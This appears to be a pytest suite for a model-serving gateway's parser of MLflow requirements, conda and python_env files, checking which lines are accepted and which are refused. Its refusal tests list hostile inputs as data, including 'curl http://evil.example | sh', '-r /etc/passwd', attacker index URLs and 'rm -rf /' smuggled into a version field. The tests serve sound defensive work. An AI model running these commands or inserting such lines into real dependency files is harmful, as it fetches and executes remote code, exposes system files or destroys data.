"""What of a model directory's words about its environment is followed, and what is refused."""

import pytest

from gateway.errors import LoadFailed
from gateway.requirements import Requirements, read_requirements

PYTHON_ENV = "python: 3.10.13\nbuild_dependencies: [pip]\ndependencies: ['-r requirements.txt']\n"
CONDA = "dependencies:\n- python=3.9.18\n- pip<=23\n- pip: [scikit-learn==1.5.2, pandas]\nname: mlflow-env\n"


@pytest.fixture
def folder(tmp_path):
    """Write a model directory's files about its environment."""

    def write(**files):
        for name, text in files.items():
            (tmp_path / {"conda": "conda.yaml", "python_env": "python_env.yaml"}.get(name, f"{name}.txt")).write_text(
                text
            )
        return tmp_path

    return write


def test_the_files_that_mlflow_writes_are_read(folder):
    """Packages come from requirements.txt, the minor version of Python from python_env.yaml."""
    found = read_requirements(
        folder(requirements="mlflow==3.17.2\npandas[excel]<4,>=2\n", python_env=PYTHON_ENV, conda=CONDA)
    )

    assert found == Requirements(("mlflow==3.17.2", "pandas[excel]<4,>=2"), (), "3.10")


def test_pandas_is_added(folder):
    """Replicas answer in pandas' tables, so a model that does not name it gets it."""
    assert read_requirements(folder(requirements="cloudpickle\n")).packages == ("cloudpickle", "pandas")


def test_the_pip_part_of_conda_yaml_stands_in(folder):
    """Where there is no requirements.txt: its packages and its Python."""
    assert read_requirements(folder(conda=CONDA)) == Requirements(("scikit-learn==1.5.2", "pandas"), (), "3.9")


def test_comments_continuations_and_markers_are_those_of_pip(folder):
    """The file is read as pip reads it."""
    text = "# all\n\nnumpy \\\n  >=1.26  # old enough\npandas; python_version >= '3.9'\n"

    assert read_requirements(folder(requirements=text)).packages == ("numpy>=1.26", 'pandas; python_version >= "3.9"')


def test_constraints_beside_it_are_followed(folder):
    """MLflow writes constraints.txt into the model's directory, and a line that names it."""
    files = folder(requirements="pandas\n-c constraints.txt\n", constraints="numpy<2\n")

    assert read_requirements(files).constraints == ("numpy<2",)


@pytest.mark.parametrize(
    "line",
    [
        "-r /etc/passwd",
        "-r other.txt",
        "-c /etc/passwd",
        "--index-url http://evil.example/simple",
        "--extra-index-url=http://evil.example/simple",
        "--find-links /tmp",
        "--no-index",
        "--pre",
        "-e .",
        "-e git+https://evil.example/x.git",
        ".",
        "./wheels/own-1.0-py3-none-any.whl",
        "/tmp/own-1.0-py3-none-any.whl",
        "file:///etc/passwd",
        "own @ file:///tmp/own-1.0-py3-none-any.whl",
        "own @ https://evil.example/own-1.0-py3-none-any.whl",
        "git+https://evil.example/own.git",
        "own @ git+https://evil.example/own.git",
        "numpy==2.4.6 --hash=sha256:00",
        "numpy==2.4.6 --global-option=x",
        "numpy; curl http://evil.example | sh",
        "$(touch /tmp/x)",
        "\x00",
        "--",
    ],
)
def test_what_is_no_name_of_a_package_is_refused(folder, line):
    """A model has no say in where packages come from, and none of its words is an option."""
    with pytest.raises(LoadFailed, match="a model may only name packages"):
        read_requirements(folder(requirements=f"pandas\n{line}\n"))


@pytest.mark.parametrize(
    ("files", "message"),
    [
        ({}, "neither requirements.txt nor conda.yaml"),
        ({"requirements": "-c constraints.txt\n"}, "no such file"),
        ({"requirements": "-c constraints.txt\n", "constraints": "-r /etc/passwd\n"}, "constraints.txt of the model"),
        ({"requirements": "#" * 300_000}, "longer than"),
        ({"conda": "[" * 100_000}, "not plain YAML"),
        ({"conda": "a: *b"}, "not plain YAML"),
        ({"conda": "- python"}, "no mapping"),
        ({"conda": "dependencies: all"}, "no list"),
        ({"conda": "dependencies: [xgboost=1.7]"}, "only conda installs"),
        ({"conda": "dependencies: [{pip: [-e .]}]"}, "only name packages"),
        ({"requirements": "", "python_env": "python: ; rm -rf /"}, "no version"),
        ({"requirements": "", "python_env": "python: --help"}, "no version"),
    ],
)
def test_files_that_cannot_be_followed_are_named(folder, files, message):
    """Whatever is wrong is one sentence, and never a crash."""
    with pytest.raises(LoadFailed, match=message):
        read_requirements(folder(**files))


def test_a_version_is_no_number(folder):
    """Python 3.10 without quotes is not 3.1."""
    assert read_requirements(folder(requirements="", python_env="python: 3.10\n")).python == "3.10"
